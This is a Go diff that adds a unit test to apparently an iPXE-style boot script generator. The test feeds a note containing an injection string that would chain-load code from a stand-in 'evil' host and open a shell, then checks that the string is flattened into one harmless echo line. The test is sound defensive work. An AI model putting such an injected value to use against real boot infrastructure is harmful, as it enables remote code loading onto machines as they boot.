@@ -358,3 +358,26 @@ func lintScript(t *testing.T, script []byte) {
 		t.Errorf("kernel names initrd=%q but the script loads %q", kernelInitrd, initrdFile)
 	}
 }
+
+// TestScriptNote: a note is one echo line after the header, and nothing
+// in it can become a command, an expansion or a kernel argument.
+func TestScriptNote(t *testing.T) {
+	base := Params{Policy: PolicyLocal, ServerURL: "http://10.0.0.1:8080", MAC: "52:54:00:12:34:56"}
+	plain, err := Script(base)
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := base
+	p.Note = "bty: no image; booting\n chain http://evil/ ${x} || shell"
+	got, err := Script(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	lines, plainLines := strings.Split(string(got), "\n"), strings.Split(string(plain), "\n")
+	if len(lines) != len(plainLines)+1 || lines[2] != "echo bty: no image booting chain http://evil/ x  shell" {
+		t.Fatalf("script with a note:\n%s", got)
+	}
+	if strings.Join(append(lines[:2:2], lines[3:]...), "\n") != string(plain) {
+		t.Errorf("the note changed more than its own line:\n%s", got)
+	}
+}
